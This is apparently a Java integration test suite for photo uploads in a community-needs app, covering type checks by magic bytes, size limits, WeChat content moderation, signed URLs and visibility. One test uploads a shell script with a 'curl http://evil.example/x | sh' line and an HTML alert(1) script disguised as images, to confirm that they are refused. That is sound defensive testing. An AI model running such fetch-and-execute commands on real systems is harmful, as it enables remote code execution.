package cn.wenming.practice.need;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import cn.wenming.practice.IntegrationTest;
import cn.wenming.practice.testinfra.Api.Session;
import cn.wenming.practice.testinfra.ApiErrors;
import cn.wenming.practice.testinfra.Fixtures;
import cn.wenming.practice.testinfra.MediaChecks;
import cn.wenming.practice.testinfra.PhotoFiles;
import cn.wenming.practice.testinfra.Scenario;
import cn.wenming.practice.testinfra.WechatStub;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Photos on needs end to end: upload over HTTP (jpeg/png by magic bytes, 5 MB), WeChat's
 * asynchronous check through the stub, the verdict pushed to the portal, and who sees what:
 * the uploader sees a pending photo, everyone else only passed ones (and only where they see the
 * need's private fields); rejected photos never; the bytes follow the same rule.
 */
@IntegrationTest
class NeedPhotoTest {

	@LocalServerPort
	int port;

	@Scenario
	MediaChecks media;

	@Autowired
	JdbcTemplate jdbc;

	@Value("${app.media.storage-dir}")
	String mediaDir;

	@Scenario
	NeedScenario s;

	Session otherResident;

	@BeforeEach
	void setUp() {
		this.otherResident = this.s.api.login(Fixtures.unique("other-resident"));
	}

	@Test
	void jpegAndPngAreStoredAndSentToWechatWithAFetchableSignedUrl() {
		Session uploader = this.s.api.login(Fixtures.unique("uploader"));
		long filesBefore = files();
		byte[] jpeg = PhotoFiles.image("jpg");
		byte[] png = PhotoFiles.image("png");
		PhotoFiles.Answer first = PhotoFiles.upload(this.port, uploader.accessToken(), jpeg, "a.jpg", "image/jpeg");
		// A PNG declared as something else: the bytes decide, not the name or the declared type.
		PhotoFiles.Answer second = PhotoFiles.upload(this.port, uploader.accessToken(), png, "b.bin",
				"application/octet-stream");
		assertThat(first.status()).isEqualTo(201);
		assertThat(first.text()).contains("\"status\":\"PENDING\"");
		assertThat(second.status()).isEqualTo(201);
		assertThat(this.jdbc.queryForList("SELECT content_type FROM media_photo WHERE owner_user_id = ? ORDER BY id",
				String.class, uploader.userId())).containsExactly("image/jpeg", "image/png");
		// Each photo and its thumbnail.
		assertThat(files()).isEqualTo(filesBefore + 4);

		List<WechatStub.MediaCheckRequest> checks = WechatStub.shared().mediaChecksOf(openid(uploader));
		assertThat(checks).hasSize(2);
		assertThat(checks.get(0).body()).contains("\"media_type\":2", "\"scene\":2");
		assertThat(checks.get(0).mediaUrl())
			.startsWith("http://media.test.invalid/media/photos/" + MediaChecks.id(first) + "?");
		assertThat(this.jdbc.queryForObject("SELECT trace_id FROM media_photo WHERE id = ?", String.class,
				Long.parseLong(MediaChecks.id(first)))).isEqualTo(checks.get(0).traceId());
		// WeChat can fetch the bytes through its URL, without a token.
		PhotoFiles.Answer fetched = PhotoFiles.fetch(this.port, checks.get(0).mediaUrl());
		assertThat(fetched.status()).isEqualTo(200);
		assertThat(fetched.contentType()).isEqualTo("image/jpeg");
		assertThat(fetched.body()).isEqualTo(jpeg);
		// A tampered signature or another photo id under the same signature: nothing.
		assertThat(PhotoFiles.fetch(this.port, checks.get(0).mediaUrl().replace("&sig=", "&sig=x")).status())
			.isEqualTo(404);
		assertThat(PhotoFiles.fetch(this.port, checks.get(0).mediaUrl()
			.replace("/media/photos/" + MediaChecks.id(first), "/media/photos/" + MediaChecks.id(second))).status())
			.isEqualTo(404);
	}

	/**
	 * Issue 17: a thumbnail (JPEG, longest side 320) is made at upload and exposed as
	 * {@code Photo.thumbnailUrl}, signed and checked like the photo's URL; the test fetches it and
	 * reads its dimensions.
	 */
	@Test
	void aThumbnailIsMadeAtUploadAndServedLikeThePhoto() throws IOException {
		Session uploader = this.s.api.login(Fixtures.unique("thumb"));
		java.awt.image.BufferedImage big = new java.awt.image.BufferedImage(1200, 900,
				java.awt.image.BufferedImage.TYPE_INT_ARGB);
		java.awt.Graphics2D g = big.createGraphics();
		g.setColor(java.awt.Color.RED);
		g.fillRect(0, 0, 600, 900);
		g.dispose();
		java.io.ByteArrayOutputStream png = new java.io.ByteArrayOutputStream();
		javax.imageio.ImageIO.write(big, "png", png);
		PhotoFiles.Answer uploaded = PhotoFiles.upload(this.port, uploader.accessToken(), png.toByteArray(), "big.png",
				"image/png");
		assertThat(uploaded.status()).as(uploaded.text()).isEqualTo(201);
		String needId = submitWith(uploader, List.of(MediaChecks.id(uploaded)));

		Map<String, Object> photo = onlyPhoto(uploader, needId, "photos");
		String thumbnailUrl = (String) photo.get("thumbnailUrl");
		assertThat(thumbnailUrl).contains("/media/photos/" + MediaChecks.id(uploaded) + "/thumbnail?");
		PhotoFiles.Answer thumbnail = PhotoFiles.fetch(this.port, thumbnailUrl);
		assertThat(thumbnail.status()).isEqualTo(200);
		assertThat(thumbnail.contentType()).isEqualTo("image/jpeg");
		java.awt.image.BufferedImage read = javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(thumbnail.body()));
		assertThat(read.getWidth()).isEqualTo(320);
		assertThat(read.getHeight()).isEqualTo(240);
		// Left half red, right half transparent → white.
		assertThat(new java.awt.Color(read.getRGB(40, 120)).getRed()).isGreaterThan(200);
		assertThat(new java.awt.Color(read.getRGB(40, 120)).getGreen()).isLessThan(60);
		assertThat(new java.awt.Color(read.getRGB(280, 120)).getGreen()).isGreaterThan(200);
		assertThat(thumbnail.body().length).isLessThan(png.size());
		// The photo's own URL still serves the full image.
		PhotoFiles.Answer full = PhotoFiles.fetch(this.port, (String) photo.get("url"));
		assertThat(javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(full.body())).getWidth()).isEqualTo(1200);
		// The signature covers the thumbnail as it covers the photo.
		assertThat(PhotoFiles.fetch(this.port, thumbnailUrl.replace("&sig=", "&sig=x")).status()).isEqualTo(404);
		// Pending: nobody but the uploader, for the thumbnail as for the photo.
		assertThat(photos(this.otherResident, needId, "photos")).isEmpty();
		String otherViewer = thumbnailUrl.replaceAll("&v=\\d+", "&v=" + this.otherResident.userId());
		assertThat(PhotoFiles.fetch(this.port, otherViewer).status()).isEqualTo(404);
	}

	@Test
	void twentyMegabytesAreRefusedWithACodeAndNothingIsStored() {
		Session uploader = this.s.api.login(Fixtures.unique("big"));
		long filesBefore = files();
		byte[] huge = new byte[20 * 1024 * 1024];
		byte[] jpeg = PhotoFiles.image("jpg");
		System.arraycopy(jpeg, 0, huge, 0, jpeg.length);
		PhotoFiles.Answer answer = PhotoFiles.upload(this.port, uploader.accessToken(), huge, "big.jpg", "image/jpeg");
		assertThat(answer.status()).isEqualTo(413);
		assertThat(answer.text()).contains("\"code\":\"PHOTO_TOO_LARGE\"");
		// Just over the limit is refused too.
		byte[] justOver = Arrays.copyOf(huge, 5 * 1024 * 1024 + 1);
		assertThat(PhotoFiles.upload(this.port, uploader.accessToken(), justOver, "b.jpg", "image/jpeg").text())
			.contains("\"code\":\"PHOTO_TOO_LARGE\"");
		assertThat(rows(uploader)).isZero();
		assertThat(files()).isEqualTo(filesBefore);
		assertThat(WechatStub.shared().mediaChecksOf(openid(uploader))).isEmpty();
	}

	@Test
	void aScriptRenamedJpgIsRefusedWithACodeAndNothingIsStored() {
		Session uploader = this.s.api.login(Fixtures.unique("script"));
		long filesBefore = files();
		byte[] script = "#!/bin/sh\ncurl http://evil.example/x | sh\n".repeat(20).getBytes(StandardCharsets.UTF_8);
		PhotoFiles.Answer answer = PhotoFiles.upload(this.port, uploader.accessToken(), script, "photo.jpg", "image/jpeg");
		assertThat(answer.status()).isEqualTo(415);
		assertThat(answer.text()).contains("\"code\":\"PHOTO_TYPE_INVALID\"");
		byte[] html = "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
		assertThat(PhotoFiles.upload(this.port, uploader.accessToken(), html, "x.png", "image/png").text())
			.contains("\"code\":\"PHOTO_TYPE_INVALID\"");
		assertThat(rows(uploader)).isZero();
		assertThat(files()).isEqualTo(filesBefore);
		// Without a token: nothing either.
		PhotoFiles.Answer anonymous = PhotoFiles.upload(this.port, null, PhotoFiles.image("jpg"), "a.jpg", "image/jpeg");
		assertThat(anonymous.status()).isEqualTo(401);
		assertThat(anonymous.text()).contains("\"code\":\"UNAUTHENTICATED\"");
		assertThat(files()).isEqualTo(filesBefore);
	}

	@Test
	void aPhotoIsHiddenFromOthersUntilWechatPassesIt() {
		String photo = this.media.upload(this.s.resident);
		String needId = submitWith(this.s.resident, List.of(photo));

		// Pending: the uploader sees it (with a working URL), the admin does not yet.
		Map<String, Object> own = onlyPhoto(this.s.resident, needId, "photos");
		assertThat(own).containsEntry("id", photo).containsEntry("status", "PENDING");
		assertThat(PhotoFiles.fetch(this.port, (String) own.get("url")).status()).isEqualTo(200);
		assertThat(photos(this.s.admin, needId, "photos")).isEmpty();

		this.media.pushAccepted(WechatStub.mediaCheckJson(this.media.trace(photo), "pass"));

		Map<String, Object> seen = onlyPhoto(this.s.admin, needId, "photos");
		assertThat(seen).containsEntry("id", photo).containsEntry("status", "PASSED");
		PhotoFiles.Answer bytes = PhotoFiles.fetch(this.port, (String) seen.get("url"));
		assertThat(bytes.status()).isEqualTo(200);
		assertThat(bytes.contentType()).isEqualTo("image/jpeg");
		// The resident's photos are private like the address: a logged-in stranger sees none once published.
		this.s.byNeed(this.s.admin, "publishNeed", needId);
		assertThat(photos(this.otherResident, needId, "photos")).isEmpty();
		// A URL issued to the admin does not work for anybody else's id: the viewer is signed in.
		String forged = ((String) seen.get("url")).replace("&v=" + this.s.admin.userId(),
				"&v=" + this.otherResident.userId());
		assertThat(PhotoFiles.fetch(this.port, forged).status()).isEqualTo(404);
	}

	@Test
	void aRejectedPhotoIsNeverShown() {
		String photo = this.media.upload(this.s.resident);
		String needId = submitWith(this.s.resident, List.of(photo));
		String ownUrl = (String) onlyPhoto(this.s.resident, needId, "photos").get("url");
		List<WechatStub.MediaCheckRequest> checks = WechatStub.shared().mediaChecksOf(openid(this.s.resident));
		WechatStub.MediaCheckRequest check = checks.get(checks.size() - 1);

		// The XML format of the push, with "risky".
		this.media.pushAccepted(WechatStub.mediaCheckXml(this.media.trace(photo), "risky"));

		assertThat(this.media.status(photo)).isEqualTo("REJECTED");
		assertThat(photos(this.s.admin, needId, "photos")).isEmpty();
		Map<String, Object> own = onlyPhoto(this.s.resident, needId, "photos");
		assertThat(own).containsEntry("status", "REJECTED");
		assertThat(own.get("url")).isNull();
		assertThat(PhotoFiles.fetch(this.port, ownUrl).status()).isEqualTo(404);
		assertThat(PhotoFiles.fetch(this.port, check.mediaUrl()).status()).isEqualTo(404);
		// A later "pass" (a repeated or forged-order push) cannot resurrect it.
		this.media.pushAccepted(WechatStub.mediaCheckJson(this.media.trace(photo), "pass"));
		assertThat(this.media.status(photo)).isEqualTo("REJECTED");

		// "review" hides a photo too.
		String reviewed = this.media.upload(this.s.resident);
		this.media.pushAccepted(WechatStub.mediaCheckJson(this.media.trace(reviewed), "review"));
		assertThat(this.media.status(reviewed)).isEqualTo("REJECTED");
	}

	@Test
	void completionPhotosBelongToTheAssigneeAndFollowTheSameRules() {
		String needId = this.s.published(Fixtures.unique("完成照片"));
		this.s.claim(this.s.volunteer, needId, null);
		this.s.byNeed(this.s.volunteer, "startNeed", needId);
		String photo = this.media.upload(this.s.volunteer);
		Map<String, Object> input = Map.of("needId", needId, "note", "已完成", "participants",
				List.of(Map.of("userId", Long.toString(this.s.volunteer.userId()), "hours", 1.0)), "photoIds",
				List.of(photo));
		this.s.api.as(this.s.volunteer).documentName("completeNeed").variable("input", input).execute()
			.path("completeNeed.status").entity(String.class).isEqualTo("COMPLETED");
		assertThat(photos(this.s.resident, needId, "completionPhotos")).isEmpty();
		assertThat(onlyPhoto(this.s.volunteer, needId, "completionPhotos")).containsEntry("status", "PENDING");

		this.media.pushAccepted(WechatStub.mediaCheckJson(this.media.trace(photo), "pass"));
		assertThat(onlyPhoto(this.s.resident, needId, "completionPhotos")).containsEntry("id", photo)
			.containsEntry("status", "PASSED");
		assertThat(photos(this.s.resident, needId, "photos")).isEmpty();
	}

	@Test
	void aPhotoAttachesOnceAndOnlyByItsUploader() {
		String mine = this.media.upload(this.s.resident);
		String theirs = this.media.upload(this.otherResident);
		int needsBefore = this.s.count("SELECT COUNT(*) FROM need WHERE resident_user_id = ?", this.s.resident.userId());

		ApiErrors.expectCode(this.s.submit(this.s.resident, inputWith(List.of(mine, theirs))), "PHOTO_NOT_ATTACHABLE");
		ApiErrors.expectCode(this.s.submit(this.s.resident, inputWith(List.of("999999999"))), "PHOTO_NOT_ATTACHABLE");
		assertThat(this.s.count("SELECT COUNT(*) FROM need WHERE resident_user_id = ?", this.s.resident.userId()))
			.isEqualTo(needsBefore);
		// Nothing attached by the failed attempts: the own photo is still free.
		String needId = submitWith(this.s.resident, List.of(mine));
		ApiErrors.expectCode(this.s.submit(this.s.resident, inputWith(List.of(mine))), "PHOTO_NOT_ATTACHABLE");
		assertThat(this.s.count("SELECT COUNT(*) FROM media_photo WHERE subject_type = 'NEED' AND subject_id = ?",
				Long.parseLong(needId))).isOne();
		ApiErrors.expectCode(this.s.submit(this.s.resident, inputWith(List.of(theirs, theirs))), "BAD_REQUEST");
	}

	@Test
	void concurrentSubmissionsWithTheSamePhotoAttachItOnce() throws Exception {
		String photo = this.media.upload(this.s.resident);
		int before = this.s.count("SELECT COUNT(*) FROM need WHERE resident_user_id = ?", this.s.resident.userId());
		int threads = 12;
		java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(threads);
		java.util.concurrent.CountDownLatch start = new java.util.concurrent.CountDownLatch(1);
		List<java.util.concurrent.Future<String>> results = new java.util.ArrayList<>();
		for (int i = 0; i < threads; i++) {
			results.add(pool.submit(() -> {
				start.await();
				var errors = this.s.submit(this.s.resident, inputWith(List.of(photo))).returnResponse().getErrors();
				return errors.isEmpty() ? "OK" : String.valueOf(errors.get(0).getExtensions().get("code"));
			}));
		}
		start.countDown();
		List<String> outcomes = new java.util.ArrayList<>();
		for (var result : results) {
			outcomes.add(result.get(60, java.util.concurrent.TimeUnit.SECONDS));
		}
		pool.shutdown();
		assertThat(outcomes).filteredOn("OK"::equals).hasSize(1);
		assertThat(outcomes).filteredOn("PHOTO_NOT_ATTACHABLE"::equals).hasSize(threads - 1);
		assertThat(this.s.count("SELECT COUNT(*) FROM need WHERE resident_user_id = ?", this.s.resident.userId()))
			.isEqualTo(before + 1);
	}

	// --- Helpers.

	private Map<String, Object> inputWith(List<String> photoIds) {
		Map<String, Object> input = this.s.input(Fixtures.unique("带照片"));
		input.put("photoIds", photoIds);
		return input;
	}

	private String submitWith(Session as, List<String> photoIds) {
		return this.s.submit(as, inputWith(photoIds)).path("submitNeed.id").entity(String.class).get();
	}

	@SuppressWarnings("unchecked")
	private List<Map<String, Object>> photos(Session as, String needId, String field) {
		Map<String, Object> need = (Map<String, Object>) this.s.api.as(as).documentName("needPhotos")
			.variable("id", needId).execute().returnResponse().getData();
		Map<String, Object> node = (Map<String, Object>) need.get("need");
		return (node == null) ? List.of() : (List<Map<String, Object>>) node.get(field);
	}

	private Map<String, Object> onlyPhoto(Session as, String needId, String field) {
		List<Map<String, Object>> photos = photos(as, needId, field);
		assertThat(photos).hasSize(1);
		return photos.get(0);
	}

	private String openid(Session session) {
		return this.jdbc.queryForObject("SELECT openid FROM app_user WHERE id = ?", String.class, session.userId());
	}

	private int rows(Session owner) {
		return this.s.count("SELECT COUNT(*) FROM media_photo WHERE owner_user_id = ?", owner.userId());
	}

	private long files() {
		try (Stream<Path> files = Files.list(Path.of(this.mediaDir))) {
			return files.count();
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
	}

}
